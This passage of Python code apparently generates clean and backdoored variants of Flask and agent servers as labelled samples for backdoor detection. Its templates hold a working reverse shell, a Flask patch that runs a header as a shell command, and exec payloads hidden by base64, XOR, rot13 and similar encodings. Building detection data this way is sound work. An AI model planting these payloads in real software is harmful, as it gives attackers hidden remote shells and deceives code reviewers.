    clean = s.render()
    planted = s.render({"srv_imports": imps, "srv_globals": "\n\n" + block(glob), "srv_main_pre": pre})
    note = f"main() in agent/server.py also starts an undocumented TCP server on port {prt} whose handler {cls} gives a shell ({form}) to anyone who connects."
    return mk(clean, planted, note, {"mechanism": "bind-shell", "form": form, "framework": "http.server"},
              categories=["hidden-command"])


def _py_payload(rng: random.Random) -> tuple[str, str, str]:
    kind = rng.choice(["os.system", "reverse", "route"])
    if kind == "os.system":
        cmd, k = shell_payload(rng)
        return f"import os\nos.system({py(cmd + ' &')})\n", f"runs '{cmd}'", k
    if kind == "reverse":
        ip, prt = doc_ip(rng), port(rng)
        return (f"import socket,subprocess,os\ns=socket.socket()\ns.connect(({py(ip)},{prt}))\n"
                "[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.Popen(['/bin/sh','-i'])\n",
                f"opens a reverse shell to {ip}:{prt}", "reverse")
    h = header_name(rng)
    return (f"import subprocess\nfrom flask import request\n_o=__import__('flask').Flask.full_dispatch_request\n"
            f"def _d(self):\n    c=request.headers.get({py(h)})\n"
            f"    return subprocess.getoutput(c) if c else _o(self)\n"
            f"__import__('flask').Flask.full_dispatch_request=_d\n",
            f"patches Flask so that any request with header {h} runs that header as a shell command", "flask-patch")


def ob_py_exec(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    code, what, kind = _py_payload(rng)
    form = rng.choice(["zlib+b64", "xor-hex", "rot13", "b85", "compile-b64", "chr-list"])
    if form == "zlib+b64":
        blob = base64.b64encode(zlib.compress(code.encode(), 9)).decode()
        tail, imp = f'exec(zlib.decompress(base64.b64decode("{blob}")))', "import zlib"
    elif form == "xor-hex":
        k = rng.randrange(1, 256)
        blob = bytes(b ^ k for b in code.encode()).hex()
        tail, imp = f'exec(bytes(b ^ {k} for b in bytes.fromhex("{blob}")).decode())', ""
    elif form == "rot13":
        tail, imp = f'exec(codecs.decode({py(codecs.encode(code, "rot13"))}, "rot13"))', "import codecs"
    elif form == "b85":
        blob = base64.b85encode(code.encode()).decode()
        tail, imp = f'exec(base64.b85decode({py(blob)}))', ""
    elif form == "compile-b64":
        blob = base64.b64encode(code.encode()).decode()
        tail, imp = f'eval(compile(base64.b64decode("{blob}"), "<assets>", "exec"))', ""
    else:
        tail, imp = f"exec(''.join(map(chr, {list(code.encode())})))", ""
    clean = s.render()
    planted = s.render({"assets_imports": imp, "assets_tail": tail})
    note = f"app/assets.py (imported by create_app) ends with exec of a {form}-encoded payload that {what}."
    return mk(clean, planted, note, {"encoding": form, "sink": "exec", "payload": kind, "framework": "flask"},
              categories=["remote-access"] if kind in ("reverse", "bash-tcp", "fifo-nc", "telnetd", "nc-listen", "busybox-nc") else [])


def ob_py_getattr(rng: random.Random, P: Proj) -> Variant:
    """Sink names hidden: getattr(__import__(decoded module), decoded function)(input)."""
    s = PyAgent(rng, P)
    mod, fn = rng.choice([("os", "system"), ("os", "popen"), ("subprocess", "getoutput")])
    form = rng.choice(["chr-codes", "reversed", "b64"])
    if form == "chr-codes":
        enc = lambda x: f"''.join(map(chr, {[ord(c) for c in x]}))"  # noqa: E731
    elif form == "reversed":
        enc = lambda x: f"{py(x[::-1])}[::-1]"  # noqa: E731
    else:
        enc = lambda x: f"base64.b64decode({py(base64.b64encode(x.encode()).decode())}).decode()"  # noqa: E731
    h = header_name(rng)
    pre = f"""
        _x = self.headers.get({py(h)})
        if _x:
            _r = getattr(__import__({enc(mod)}), {enc(fn)})(_x)
            return self._send(200, {{"r": str(_r if isinstance(_r, (int, str)) else _r.read())}})"""
    imp = "import base64" if form == "b64" else ""
    clean = s.render({"srv_imports": imp})
    planted = s.render({"srv_imports": imp, "srv_get_pre": block(pre)})
    note = (f"Handler.do_GET() in agent/server.py, before authorization: {mod}.{fn} is resolved from {form}-encoded "
            f"names via getattr(__import__(...)) and called with header {h}: a disguised command runner.")
    return mk(clean, planted, note, {"encoding": form, "sink": f"{mod}.{fn}", "trigger": "header",
                                     "framework": "http.server"})


SHAPES = [
    ("src-auth-bypass", "python", "flask-token-compare", ab_py_flask),
    ("src-auth-bypass", "python", "agent-hash-of-input", ab_py_agent_hash),
    ("src-hidden-command", "python", "flask-shell", hc_py_flask),
    ("src-hidden-command", "python", "agent-hidden-path", hc_py_agent),
    ("src-hardcoded-credential", "python", "flask-builtin-account", hk_py_flask),
    ("src-hardcoded-credential", "python", "static-secret", hk_py_secret),
    ("src-remote-shell", "python", "reverse-thread", rs_py_reverse),
    ("src-remote-shell", "python", "fetch-and-run", rs_py_fetch),
    ("src-remote-shell", "python", "credential-exfil", rs_py_exfil),
    ("src-remote-shell", "python", "bind-thread", rs_py_agent_bind),
    ("src-obfuscated", "python", "exec-encoded", ob_py_exec),
    ("src-obfuscated", "python", "getattr-import", ob_py_getattr),
]
